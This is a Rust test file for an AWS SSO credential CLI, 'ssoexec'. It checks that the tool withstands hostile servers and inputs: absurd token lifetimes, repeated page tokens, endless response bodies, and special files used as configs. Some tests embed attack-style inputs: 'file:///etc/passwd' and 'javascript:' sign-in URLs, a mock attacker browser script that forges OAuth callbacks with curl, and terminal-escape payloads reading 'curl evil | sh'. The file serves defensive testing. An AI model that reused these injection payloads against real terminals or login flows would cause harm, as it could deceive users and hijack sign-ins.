//! Hostile servers: absurd numbers, endless paging and oversized bodies never panic, hang or
//! exhaust memory, and a refresh token the server rotated is never lost.
use crate::support::mock::Op;
use crate::support::sandbox::*;
use serde_json::Value;
use std::process::Stdio;
use std::time::{Duration, Instant};

/// A lifetime no date can hold (now + 10^15 s is past year 9999).
const HUGE: i64 = 1_000_000_000_000_000;

fn token_json(sb: &Sandbox) -> Value {
    serde_json::from_slice(&std::fs::read(sb.token_file("corp")).unwrap()).unwrap()
}

fn no_panic(out: &std::process::Output) {
    assert_ne!(out.status.code(), Some(101), "panicked: {}", stderr(out));
    assert!(!stderr(out).contains("panicked"), "{}", stderr(out));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_expires_in_on_login_is_capped_not_a_panic() {
    let sb = Sandbox::new().await;
    sb.mock.set_access_token_ttl(HUGE);
    let out = sb.run(&["login", "--profile", "dev", "--device-code"]);
    no_panic(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    // 90 days from the pinned now.
    assert_eq!(token_json(&sb)["expiresAt"], fmt_epoch(NOW + 90 * 86_400));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_negative_expires_in_on_login_is_a_clear_error() {
    let sb = Sandbox::new().await;
    sb.mock.set_access_token_ttl(-HUGE);
    let out = sb.run(&["login", "--profile", "dev", "--device-code"]);
    no_panic(&out);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).ends_with(&format!(
            "error: the SSO OIDC service issued a token that expires at once (expiresIn {})\nhint: try again; if it persists, check the clock and AWS_ENDPOINT_URL_SSO_OIDC\n",
            -HUGE
        )),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_expires_in_on_refresh_keeps_the_rotated_refresh_token() {
    for ttl in [HUGE, -HUGE] {
        let sb = Sandbox::new().await;
        sb.seed_token("seed-access", Some("seed-refresh"), 5 * 60);
        sb.mock.set_access_token_ttl(ttl);
        let out = sb
            .std_cmd()
            .args(["credential-process", "--profile", "dev"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(sb.mock.count(Op::CreateTokenRefresh), 1);
        let file = token_json(&sb);
        let rotated = file["refreshToken"].as_str().unwrap().to_string();
        assert!(
            rotated.starts_with("mock-refresh-"),
            "ttl {ttl}: the rotated refresh token was lost: {file}"
        );
        if ttl > 0 {
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(file["expiresAt"], fmt_epoch(NOW + 90 * 86_400));
        } else {
            // The current token still has 5 minutes: used, with a warning.
            assert!(out.status.success(), "{}", stderr(&out));
            assert!(
                stderr(&out).contains("could not refresh the SSO token (the SSO OIDC service issued a token that expires at once"),
                "{}",
                stderr(&out)
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_device_code_lifetime_and_interval_never_panic() {
    let sb = Sandbox::new().await;
    sb.mock.set_device_expires_in(HUGE);
    sb.mock.set_poll_interval(i64::MAX);
    sb.mock.slow_down_next(1);
    let started = Instant::now();
    let out = sb
        .cmd()
        .args(["login", "--profile", "dev", "--device-code"])
        .env("SSOEXEC_LOGIN_TIMEOUT", "3")
        .output()
        .unwrap();
    no_panic(&out);
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repeated_next_token_stops_paging_with_a_clear_error() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    sb.mock.with_accounts(5, 5).set_page_size(2);
    sb.mock.set_repeat_next_token(true);
    let account = crate::support::mock::generated_account_id(1);
    for args in [
        &["accounts", "--profile", "dev"][..],
        &["roles", "--profile", "dev", "--account-id", &account],
    ] {
        sb.mock.reset_counts();
        let out = sb
            .cmd()
            .args(args)
            .timeout(Duration::from_secs(20))
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert_eq!(stdout(&out), "");
        let op = if args[0] == "accounts" {
            "ListAccounts"
        } else {
            "ListAccountRoles"
        };
        assert!(
            stderr(&out).starts_with(&format!(
                "error: {op} returned a response ssoexec cannot read: the same nextToken was received twice"
            )),
            "{}",
            stderr(&out)
        );
        assert!(
            sb.mock.total_requests() <= 3,
            "{}",
            sb.mock.total_requests()
        );
    }
}

/// A server that answers every request with `200` and an endless body (with or without a
/// `Content-Length` announcing 512 MiB). Returns its URL; the thread ends with the test process.
fn endless_body_server(announce_length: bool) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf);
                let head = if announce_length {
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 536870912\r\n\r\n"
                } else {
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n"
                };
                let _ = s.write_all(head.as_bytes());
                let _ = s.write_all(b"{\"roleCredentials\": \"");
                let chunk = vec![b'x'; 64 * 1024];
                // Until the client hangs up (at most 512 MiB).
                for _ in 0..8192 {
                    if s.write_all(&chunk).is_err() {
                        break;
                    }
                }
            });
        }
    });
    url
}

#[tokio::test(flavor = "multi_thread")]
async fn an_endless_response_body_is_refused_at_one_mebibyte() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    for announce in [true, false] {
        let url = endless_body_server(announce);
        let started = Instant::now();
        let out = sb
            .cmd()
            .args(["credential-process", "--profile", "dev"])
            .env("AWS_ENDPOINT_URL_SSO", &url)
            .timeout(Duration::from_secs(30))
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert_eq!(
            stderr(&out),
            "error: GetRoleCredentials returned a response ssoexec cannot read: the response body is larger than 1024 KiB\n"
        );
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs python3 with botocore (scripts/install-test-tools.sh)"
)]
#[tokio::test(flavor = "multi_thread")]
async fn a_config_that_is_not_a_regular_file_reads_as_absent_like_botocore() {
    let sb = Sandbox::new().await;
    let fifo = mkfifo(&sb, "config-fifo");
    for config in [fifo.display().to_string(), "/dev/zero".into()] {
        let started = Instant::now();
        let out = sb
            .cmd()
            .args(["credential-process", "--profile", "dev"])
            .env("AWS_CONFIG_FILE", &config)
            .timeout(Duration::from_secs(20))
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(out.status.code(), Some(1), "{config}: {}", stderr(&out));
        assert!(
            stderr(&out).starts_with(&format!(
                "error: the config profile (dev) could not be found in {config}\n"
            )),
            "{}",
            stderr(&out)
        );
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_config_larger_than_16_mib_fails_fast_everywhere() {
    let sb = Sandbox::new().await;
    let big = sb.home().join("big-config");
    // Sparse: 17 MiB of NUL without writing them.
    std::fs::File::create(&big)
        .unwrap()
        .set_len(17 << 20)
        .unwrap();
    for args in [
        &["credential-process", "--profile", "dev"][..],
        &["doctor", "--offline"],
    ] {
        let started = Instant::now();
        let out = sb
            .cmd()
            .args(args)
            .env("AWS_CONFIG_FILE", &big)
            .timeout(Duration::from_secs(20))
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert!(
            all.contains(&format!("cannot read {}", big.display())),
            "{all}"
        );
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn doctor_on_special_files_never_blocks_or_reads_without_end() {
    let sb = Sandbox::new().await;
    let fifo = mkfifo(&sb, "kube-fifo");
    let zero_link = sb.home().join("kube-zero");
    std::os::unix::fs::symlink("/dev/zero", &zero_link).unwrap();
    for (config, kubeconfig, kind) in [
        ("/dev/zero", &fifo, "a FIFO"),
        ("/dev/zero", &zero_link, "a device"),
    ] {
        let started = Instant::now();
        let out = sb
            .cmd()
            .args(["doctor", "--offline"])
            .env("AWS_CONFIG_FILE", config)
            .env("KUBECONFIG", kubeconfig)
            .timeout(Duration::from_secs(20))
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        let text = stdout(&out);
        assert!(
            text.starts_with(&format!("warning  config: {config} is not a regular file: ssoexec and the AWS CLI read it as empty (fix: point AWS_CONFIG_FILE at a file)\n")),
            "{text}"
        );
        assert!(
            text.contains(&format!(
                "problem  kubeconfig: cannot read {} (it is not a regular file (it is {kind}))",
                kubeconfig.display()
            )),
            "{text}"
        );
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_role_cache_entry_that_is_a_fifo_or_links_to_dev_zero_is_replaced_not_read() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    let first = sb.run(&["credential-process", "--profile", "dev"]);
    assert!(first.status.success(), "{}", stderr(&first));
    let entry = std::fs::read_dir(sb.cli_cache())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|e| e == "json"))
        .unwrap();
    for kind in ["a FIFO", "a device"] {
        std::fs::remove_file(&entry).unwrap();
        if kind == "a FIFO" {
            let made = std::process::Command::new("mkfifo").arg(&entry).status();
            assert!(made.unwrap().success());
        } else {
            std::os::unix::fs::symlink("/dev/zero", &entry).unwrap();
        }
        sb.mock.reset_counts();
        let started = Instant::now();
        let out = sb
            .cmd()
            .args(["credential-process", "--profile", "dev"])
            .timeout(Duration::from_secs(20))
            .output()
            .unwrap();
        no_panic(&out);
        // Not read: the credentials are fetched again and the entry replaced by a file.
        assert!(out.status.success(), "{kind}: {}", stderr(&out));
        assert!(std::fs::symlink_metadata(&entry).unwrap().is_file());
        assert_eq!(sb.mock.count(Op::GetRoleCredentials), 1);
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

fn mkfifo(sb: &Sandbox, name: &str) -> std::path::PathBuf {
    let path = sb.home().join(name);
    let made = std::process::Command::new("mkfifo").arg(&path).status();
    assert!(made.unwrap().success());
    path
}

#[tokio::test(flavor = "multi_thread")]
async fn a_ca_bundle_without_a_certificate_is_an_error() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    let garbage = sb.home().join("garbage.pem");
    std::fs::write(&garbage, "this is not a certificate\n").unwrap();
    let out = sb
        .cmd()
        .args(["credential-process", "--profile", "dev"])
        .env("AWS_CA_BUNDLE", &garbage)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
    assert_eq!(
        stderr(&out),
        format!(
            "error: cannot set up HTTPS: the CA bundle {} holds no PEM certificate\nhint: check AWS_CA_BUNDLE / ca_bundle\n",
            garbage.display()
        )
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_verification_url_that_is_not_https_never_reaches_the_browser() {
    for url in [
        "--help",
        "-e http://x",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "http://evil.example/device",
    ] {
        let sb = Sandbox::new().await;
        sb.mock
            .set_device_reply_fields(serde_json::json!({ "verificationUriComplete": url }));
        let out = sb
            .cmd()
            .args(["login", "--profile", "dev", "--device-code"])
            .env("SSOEXEC_LOGIN_TIMEOUT", "1")
            .output()
            .unwrap();
        no_panic(&out);
        assert_eq!(sb.browser_opens(), 0, "{url:?} reached the browser");
        assert!(
            stderr(&out).contains(
                "the sign-in URL is not https (or http to this machine), so it is not handed to a browser"
            ),
            "{url:?}: {}",
            stderr(&out)
        );
    }
}

/// A browser script that first sends `bad` requests to the loopback callback (with the port and
/// state taken from the authorize URL it is given), then completes the real sign-in.
fn callback_attacker(sb: &Sandbox, bad: &[&str], then_follow: bool) -> String {
    let path = sb.home().join("bin").join("attacker-browser");
    let mut script = String::from(
        "#!/bin/sh\nport=$(printf '%s' \"$1\" | sed -n 's/.*127\\.0\\.0\\.1%3A\\([0-9]*\\).*/\\1/p')\nstate=$(printf '%s' \"$1\" | sed -n 's/.*[?&]state=\\([^&]*\\).*/\\1/p')\n",
    );
    for q in bad {
        script.push_str(&format!(
            "curl -s -o /dev/null \"http://127.0.0.1:$port/oauth/callback?{q}\"\n"
        ));
    }
    if then_follow {
        script.push_str("exec curl -fsSL -o /dev/null \"$1\"\n");
    }
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path.display().to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn pkce_callbacks_without_the_right_state_are_ignored() {
    let sb = Sandbox::new().await;
    let browser = callback_attacker(
        &sb,
        &[
            "error=access_denied&error_description=%1b%5b2Jrun%20curl%20evil%20%7c%20sh",
            "error=access_denied&state=wrong",
            "code=stolen&state=wrong",
            "code=stolen",
        ],
        true,
    );
    let out = sb
        .cmd()
        .args(["login", "--profile", "dev", "--pkce"])
        .env("BROWSER", &browser)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains('\x1b'));
    assert_eq!(sb.mock.count(Op::CreateTokenAuthCode), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pkce_error_with_the_right_state_ends_the_login_without_control_characters() {
    let sb = Sandbox::new().await;
    let browser = callback_attacker(
        &sb,
        &["error=access_denied&state=$state&error_description=%1b%5b2JDenied%07%0aby%20admin"],
        false,
    );
    let out = sb
        .cmd()
        .args(["login", "--profile", "dev", "--pkce"])
        .env("BROWSER", &browser)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.ends_with("error: the browser reported a failed sign-in: access_denied: [2JDenied by admin\nhint: run `ssoexec login --profile dev` to try again\n"),
        "{err:?}"
    );
}

/// A portal that refuses GetRoleCredentials with a message full of terminal escapes.
fn escaping_portal() -> String {
    let body = "{\"message\":\"\\u001b]0;owned\\u0007\\u001b[2JRun: curl evil | sh\",\"__type\":\"ForbiddenException\"}";
    crate::support::stub::fixed_reply("403 Forbidden", "application/json", body.into())
}

#[tokio::test(flavor = "multi_thread")]
async fn server_messages_reach_the_terminal_without_control_characters() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    let out = sb
        .cmd()
        .args(["credential-process", "--profile", "dev"])
        .env("AWS_ENDPOINT_URL_SSO", escaping_portal())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
    assert!(
        err.starts_with("error: no access to role ReadOnly in account 111111111111\n  caused by: GetRoleCredentials failed: ]0;owned[2JRun: curl evil | sh (ForbiddenException)\n"),
        "{err:?}"
    );
}

/// A portal whose role credentials hold a NUL byte in the secret.
fn nul_portal() -> String {
    let body = format!(
        "{{\"roleCredentials\":{{\"accessKeyId\":\"ASIANUL\",\"secretAccessKey\":\"sec\\u0000ret-NUL-SECRET\",\"sessionToken\":\"tok\",\"expiration\":{}}}}}",
        (NOW + 3600) * 1000
    );
    crate::support::stub::fixed_reply("200 OK", "application/json", body)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_nul_byte_in_a_value_is_named_not_blamed_on_the_command() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    let out = sb
        .cmd()
        .args(["--profile", "dev", "--", "true"])
        .env("AWS_ENDPOINT_URL_SSO", nul_portal())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        "error: cannot give AWS_SECRET_ACCESS_KEY to the command: its value holds a NUL byte, which no environment variable can carry\nhint: the credentials server returned a malformed value; try again, and report it if it persists\n"
    );
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn credential_process_with_stdout_closed_fails_loudly() {
    let sb = Sandbox::new().await;
    sb.login("dev");
    let bin = assert_cmd::cargo::cargo_bin("ssoexec");
    let out = sb
        .wrapper("sh")
        .arg("-c")
        .arg(format!(
            "exec '{}' credential-process --profile dev >&-",
            bin.display()
        ))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        "error: cannot write to stdout\n  caused by: stdout was closed when ssoexec started (`>&-`), so the document has nowhere to go\n"
    );
}

/// An `Expiration` whose UTC form is past year 9999 (`-23:59` pushes it into year 10000).
const BEYOND_9999: &str = "9999-12-31T23:59:59-23:59";

/// A role-chaining config: `a` assumes a role with the SSO profile `dev`.
fn chained_config() -> String {
    format!(
        "{CONFIG}\n[profile a]\nrole_arn = arn:aws:iam::222222222222:role/A\nsource_profile = dev\nregion = eu-west-1\n"
    )
}

/// An STS that answers every AssumeRole with `expiration`.
fn sts_with_expiration(expiration: &'static str) -> String {
    let body = format!(
        "<AssumeRoleResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><AssumeRoleResult><Credentials><AccessKeyId>ASIAHOSTILE</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken><Expiration>{expiration}</Expiration></Credentials><AssumedRoleUser><Arn>arn:aws:sts::222222222222:assumed-role/A/x</Arn><AssumedRoleId>AROA:x</AssumedRoleId></AssumedRoleUser></AssumeRoleResult></AssumeRoleResponse>"
    );
    crate::support::stub::fixed_reply("200 OK", "text/xml", body)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_expiration_past_year_9999_from_sts_is_not_a_timestamp() {
    let sb = Sandbox::new().await;
    sb.write_config(&chained_config());
    sb.login("dev");
    let out = sb
        .cmd()
        .args(["credential-process", "--profile", "a"])
        .env("AWS_ENDPOINT_URL_STS", sts_with_expiration(BEYOND_9999))
        .output()
        .unwrap();
    no_panic(&out);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).starts_with(&format!(
            "error: AssumeRole returned a response ssoexec cannot read: Expiration \"{BEYOND_9999}\" is not a timestamp"
        )),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_expiration_past_year_9999_in_the_assume_role_cache_is_replaced() {
    let sb = Sandbox::new().await;
    sb.write_config(&chained_config());
    sb.login("dev");
    let first = sb.run(&["credential-process", "--profile", "a"]);
    assert!(first.status.success(), "{}", stderr(&first));
    let mut planted = 0;
    for e in std::fs::read_dir(sb.cli_cache()).unwrap().flatten() {
        let mut v: Value = serde_json::from_slice(&std::fs::read(e.path()).unwrap()).unwrap();
        if v.get("AssumedRoleUser").is_some() {
            v["Credentials"]["Expiration"] = BEYOND_9999.into();
            std::fs::write(e.path(), v.to_string()).unwrap();
            planted += 1;
        }
    }
    assert_eq!(planted, 1);
    sb.mock.reset_counts();
    let out = sb.run(&["credential-process", "--profile", "a"]);
    no_panic(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        sb.mock.count(Op::AssumeRole),
        1,
        "the entry is assumed again"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pinned_clock_past_year_9999_is_a_usage_error() {
    let sb = Sandbox::new().await;
    let out = sb
        .cmd()
        .args(["status"])
        .env("SSOEXEC_TEST_NOW", BEYOND_9999)
        .output()
        .unwrap();
    no_panic(&out);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        format!(
            "error: SSOEXEC_TEST_NOW={BEYOND_9999:?} is not epoch seconds or an RFC 3339 time between 1970 and 9000\nhint: see `ssoexec --help`\n"
        )
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_ten_thousand_hop_source_profile_chain_is_a_clear_error() {
    let sb = Sandbox::new().await;
    let mut config = CONFIG.to_string();
    let mut source = "dev".to_string();
    for i in 1..=10_000 {
        config.push_str(&format!(
            "\n[profile hop{i}]\nrole_arn = arn:aws:iam::222222222222:role/R{i}\nsource_profile = {source}\n"
        ));
        source = format!("hop{i}");
    }
    sb.write_config(&config);
    let out = sb.run(&["credential-process", "--profile", "hop10000"]);
    no_panic(&out);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        "error: the source_profile chain of the profile \"hop10000\" has more than 32 role hops\nhint: point a profile near the start of the chain at SSO keys, static keys or credential_source\n"
    );
    assert_eq!(sb.mock.total_requests(), 0);
}
